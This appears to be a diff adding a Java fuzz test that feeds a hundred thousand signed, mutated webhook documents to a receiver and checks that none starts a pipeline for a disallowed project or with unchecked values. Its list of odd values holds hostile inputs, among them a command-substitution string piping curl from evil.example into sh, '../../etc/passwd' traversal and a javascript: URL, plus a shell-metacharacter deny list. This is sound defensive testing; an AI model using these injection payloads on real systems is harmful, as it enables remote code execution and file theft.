@@ -1,0 +1,260 @@
+package dev.retrigger.receivewebhook;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.databind.node.TextNode;
+import dev.retrigger.aws.HttpRequest;
+import dev.retrigger.aws.webhook.Verification.Verified;
+import dev.retrigger.domain.Hmac;
+import dev.retrigger.domain.Signal;
+import dev.retrigger.events.InvalidEventException;
+import dev.retrigger.events.Json;
+import dev.retrigger.receivewebhook.WebhookReceiver.Received;
+import java.math.BigInteger;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Base64;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Random;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Documents that a sender could sign and none would send. Whatever they say, they are answered, and
+ * start nothing outside of what the sender may speak of, nor with an attribute that was not
+ * checked.
+ */
+@Tag("N-05")
+final class MutatedWebhooksTest {
+  private static final int DOCUMENTS = 100_000;
+
+  /** Few triggers, so that the time goes into what is mutated, and each still wants a sample. */
+  private static final String MODEL =
+      """
+      version: 1
+      model: growth/churn
+      pipelines:
+        build: {target: {type: codebuild, project: churn-build}}
+      triggers:
+        merge: {gitlab: {project: growth/churn, event: push}, start: build}
+        merged: {gitlab: {project: growth/churn, event: merge-request}, start: build}
+        champion: {mlflow: {model: churn}, start: build}
+        labels: {webhook: {sender: acme, match: {/event: labels.ready}}, start: build}
+      """;
+
+  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
+  private static final byte[] GITLAB_KEY = "gitlab-signing-token-for-tests-1".getBytes(UTF_8);
+  private static final List<String> COMMANDS = List.of("$(", "`", ";", "|", "..");
+  private static final List<String> ODD =
+      List.of(
+          "",
+          " ",
+          "0".repeat(40),
+          "f".repeat(40),
+          "../../etc/passwd",
+          "$(curl evil.example|sh)",
+          "ops/secret",
+          "growth/churn",
+          "growth/churn/../../ops/secret",
+          "refs/heads/main",
+          "refs/heads/\ud800",
+          "refs/tags/v1.2.3",
+          "main",
+          "merge",
+          "success",
+          "created",
+          "model_version_alias",
+          "ops-secret",
+          "champion\n",
+          "１２",
+          "javascript:alert(1)",
+          "x".repeat(5_000));
+
+  @Test
+  void shouldAnswerAHundredThousandMutatedDocumentsAndStartNothingThatIsNotAllowed() {
+    Random random = new Random(20261121);
+    List<Sample> samples = samples();
+    World world = new World(MODEL);
+    List<String> wrong = new ArrayList<>();
+    int fired = 0;
+    int answered = 0;
+    for (int i = 0; i < DOCUMENTS; i++) {
+      if (i % 5_000 == 0) {
+        world = new World(MODEL);
+      }
+      Sample sample = samples.get(random.nextInt(samples.size()));
+      Sender sender = sample.sender();
+      HttpRequest mutant = signed(sender, mutate(sample, random), "d-" + i);
+      Verified verified = (Verified) sender.verify(mutant);
+
+      Received received = world.receiver().receive(mutant, sender, verified);
+
+      answered +=
+          received instanceof Received.Accepted || received instanceof Received.Unreadable ? 1 : 0;
+      world.signals.forEach(signal -> wrongs(signal).forEach(wrong::add));
+      fired += world.signals.size();
+      world.signals.clear();
+    }
+    assertThat(answered).isEqualTo(DOCUMENTS);
+    assertThat(wrong).isEmpty();
+    assertThat(fired).isBetween(1_000, DOCUMENTS);
+  }
+
+  /** What is wrong with a signal; nothing is, if it is for an allowed project and was checked. */
+  private static Stream<String> wrongs(Signal signal) {
+    Stream<String> subject =
+        signal.trigger().model().toString().equals("growth/churn")
+                && (!signal.source().equals("gitlab")
+                    || signal.subject().equals("gitlab/growth/churn"))
+            ? Stream.empty()
+            : Stream.of("fires for " + signal.subject());
+    return Stream.concat(
+        subject,
+        signal.attributes().entrySet().stream()
+            .filter(entry -> !isChecked(entry.getKey(), entry.getValue()))
+            .map(Object::toString));
+  }
+
+  private static boolean isChecked(String name, String value) {
+    return (!name.equals("project") || value.equals("growth/churn"))
+        && value.length() <= 600
+        && value.chars().noneMatch(Character::isISOControl)
+        && COMMANDS.stream().noneMatch(value::contains);
+  }
+
+  /** A document as it was sent, and what it says. */
+  private record Sample(Sender sender, HttpRequest request, ObjectNode document) {}
+
+  private static List<Sample> samples() {
+    Senders senders = Senders.read(World.SENDERS);
+    return SampleWebhooksTest.files().stream()
+        .map(name -> World.request(World.read(World.file(name))))
+        .flatMap(
+            request ->
+                senders.find(request.path("sender").orElseThrow()).stream()
+                    .flatMap(sender -> sample(sender, request)))
+        .toList();
+  }
+
+  private static Stream<Sample> sample(Sender sender, HttpRequest request) {
+    try {
+      return Json.read(request.body(), JsonNode.class) instanceof ObjectNode document
+          ? Stream.of(new Sample(sender, request, document))
+          : Stream.empty();
+    } catch (InvalidEventException _) {
+      return Stream.empty();
+    }
+  }
+
+  /** What the sender would have sent; some mutants are no JSON any more. */
+  private static HttpRequest signed(Sender sender, byte[] body, String id) {
+    ObjectNode envelope = JSON.objectNode().put("version", "2.0");
+    envelope.put("routeKey", "POST /webhooks/{sender}");
+    envelope.putObject("pathParameters").put("sender", sender.name());
+    envelope.putObject("requestContext").put("timeEpoch", 1_795_248_000_000L);
+    envelope.put("isBase64Encoded", true).put("body", Base64.getEncoder().encodeToString(body));
+    ObjectNode headers = envelope.putObject("headers");
+    byte[] head = (id + ".1795248000.").getBytes(UTF_8);
+    switch (sender.name()) {
+      case "gitlab" ->
+          headers
+              .put("webhook-id", id)
+              .put("webhook-timestamp", "1795248000")
+              .put("webhook-signature", v1(Hmac.sha256(GITLAB_KEY, head, body)));
+      case "gitlab-old" -> headers.put("x-gitlab-token", sender.secrets().getFirst());
+      case "mlflow" ->
+          headers
+              .put("x-mlflow-delivery-id", id)
+              .put("x-mlflow-timestamp", "1795248000")
+              .put("x-mlflow-signature", v1(Hmac.sha256(key(sender), head, body)));
+      case "github" ->
+          headers.put("x-hub-signature-256", "sha256=" + hex(Hmac.sha256(key(sender), body)));
+      default ->
+          headers
+              .put("x-acme-id", id)
+              .put("x-acme-time", "1795248000")
+              .put(
+                  "x-acme-signature",
+                  "sha512="
+                      + hex(
+                          Hmac.code(
+                              Hmac.Algorithm.SHA512,
+                              key(sender),
+                              ("v2:1795248000:" + id + ":").getBytes(UTF_8),
+                              body)));
+    }
+    return HttpRequest.of(envelope);
+  }
+
+  private static byte[] key(Sender sender) {
+    return sender.secrets().getFirst().getBytes(UTF_8);
+  }
+
+  private static String v1(byte[] code) {
+    return "v1," + Base64.getEncoder().encodeToString(code);
+  }
+
+  private static String hex(byte[] code) {
+    return HexFormat.of().formatHex(code);
+  }
+
+  private static byte[] mutate(Sample sample, Random random) {
+    byte[] body = sample.request().body();
+    return switch (random.nextInt(8)) {
+      case 0 -> {
+        byte[] flipped = body.clone();
+        flipped[random.nextInt(body.length)] ^= (byte) (1 << random.nextInt(8));
+        yield flipped;
+      }
+      case 1 -> Arrays.copyOf(body, random.nextInt(body.length));
+      default -> {
+        ObjectNode document = sample.document().deepCopy();
+        for (int i = random.nextInt(3); i >= 0; i--) {
+          mutate(document, random);
+        }
+        yield Json.writeBytes(document);
+      }
+    };
+  }
+
+  /** Puts something odd in the place of a value somewhere in the document. */
+  private static void mutate(ObjectNode document, Random random) {
+    ObjectNode parent = document;
+    while (true) {
+      List<String> names = new ArrayList<>();
+      parent.fieldNames().forEachRemaining(names::add);
+      if (names.isEmpty()) {
+        parent.set("odd", odd(random));
+        return;
+      }
+      String name = names.get(random.nextInt(names.size()));
+      if (parent.path(name) instanceof ObjectNode inner && random.nextInt(4) > 0) {
+        parent = inner;
+      } else if (random.nextInt(8) == 0) {
+        parent.remove(name);
+        return;
+      } else {
+        parent.set(name, odd(random));
+        return;
+      }
+    }
+  }
+
+  private static JsonNode odd(Random random) {
+    return switch (random.nextInt(10)) {
+      case 0 -> JSON.nullNode();
+      case 1 -> JSON.numberNode(random.nextLong());
+      case 2 -> JSON.numberNode(new BigInteger("9".repeat(40)));
+      case 3 -> JSON.booleanNode(random.nextBoolean());
+      case 4 -> JSON.arrayNode().add("growth/churn").addNull();
+      case 5 -> JSON.objectNode().put("growth/churn", 1);
+      default -> TextNode.valueOf(ODD.get(random.nextInt(ODD.size())));
+    };
+  }
+}
